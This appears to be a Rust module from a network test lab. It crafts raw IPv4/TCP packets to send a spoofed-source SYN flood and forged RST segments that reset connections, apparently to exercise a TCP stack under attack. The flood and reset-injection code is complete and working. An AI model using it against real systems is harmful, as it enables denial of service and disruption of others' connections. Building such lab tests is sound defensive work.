//! Segments that no socket sent: a SYN flood from many addresses that never goes on, and forged resets.

use std::{
    io,
    net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4},
};

use anyhow::{Context, Result, bail};
use socket2::{Domain, Protocol, Socket, Type};

use super::wire::step;
use crate::lab::Lab;

/// Sends `count` SYNs to `target` from the lab's client, each from an address and port of its own in
/// 198.18.0.0/15, where nobody answers (RFC 2544).
pub fn syn_flood(lab: &Lab, target: SocketAddr, count: u32) -> Result<()> {
    let SocketAddr::V4(target) = target else { bail!("the flood knows IPv4 only") };
    lab.client.run(|| send(target, count))?.context("send SYNs")
}

fn send(target: SocketAddrV4, count: u32) -> io::Result<()> {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW)))?;
    let destination = SocketAddr::from((IpAddr::V4(*target.ip()), 0)).into();
    let mut state = 0x5eed_0000_0000_0001;
    for _ in 0..count {
        state = step(state);
        let source = SocketAddrV4::new(
            Ipv4Addr::from_bits(0xc612_0000 | (state as u32 & 0x1_ffff)),
            (state >> 32) as u16 | 1024,
        );
        match socket.send_to(&segment(source, target, (state >> 16) as u32, SYN), &destination) {
            Ok(_) => {}
            Err(error) if error.raw_os_error() == Some(libc::ENOBUFS) => std::thread::yield_now(),
            Err(error) => return Err(error),
        }
    }
    Ok(())
}

/// Sends RSTs in the name of `source` from the lab's client, with sequence numbers 2^23 apart all round their space: some are in the
/// connection's window, and none is the right one, as far as chance goes.
pub fn forge_resets(lab: &Lab, source: SocketAddr, target: SocketAddr) -> Result<()> {
    let (SocketAddr::V4(source), SocketAddr::V4(target)) = (source, target) else {
        bail!("forged resets are IPv4 only")
    };
    lab.client.run(|| {
        let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW)))?;
        let destination = SocketAddr::from((IpAddr::V4(*target.ip()), 0)).into();
        for number in 0..512_u32 {
            socket.send_to(&segment(source, target, (number << 23) + 0x1234, RST), &destination)?;
        }
        anyhow::Ok(())
    })?
}

const SYN: u8 = 0x02;
const RST: u8 = 0x04;

/// An IPv4 header (RFC 791) and a TCP header (RFC 9293) without options.
fn segment(source: SocketAddrV4, target: SocketAddrV4, sequence: u32, flags: u8) -> [u8; 40] {
    let mut packet = [0; 40];
    let mut put = |at: usize, bytes: &[u8]| packet[at..at + bytes.len()].copy_from_slice(bytes);
    put(0, &[0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6]);
    put(12, &source.ip().octets());
    put(16, &target.ip().octets());
    put(20, &source.port().to_be_bytes());
    put(22, &target.port().to_be_bytes());
    put(24, &sequence.to_be_bytes());
    put(32, &[0x50, flags, 0xff, 0xff]);
    // The kernel fills in the IPv4 checksum (raw(7)); TCP's covers a pseudo-header of addresses, protocol and length.
    let words = packet[12..].chunks_exact(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])));
    let sum = words.sum::<u32>() + 6 + 20;
    let folded = (sum & 0xffff) + (sum >> 16);
    let folded = (folded & 0xffff) + (folded >> 16);
    packet[36..38].copy_from_slice(&(!(folded as u16)).to_be_bytes());
    packet
}
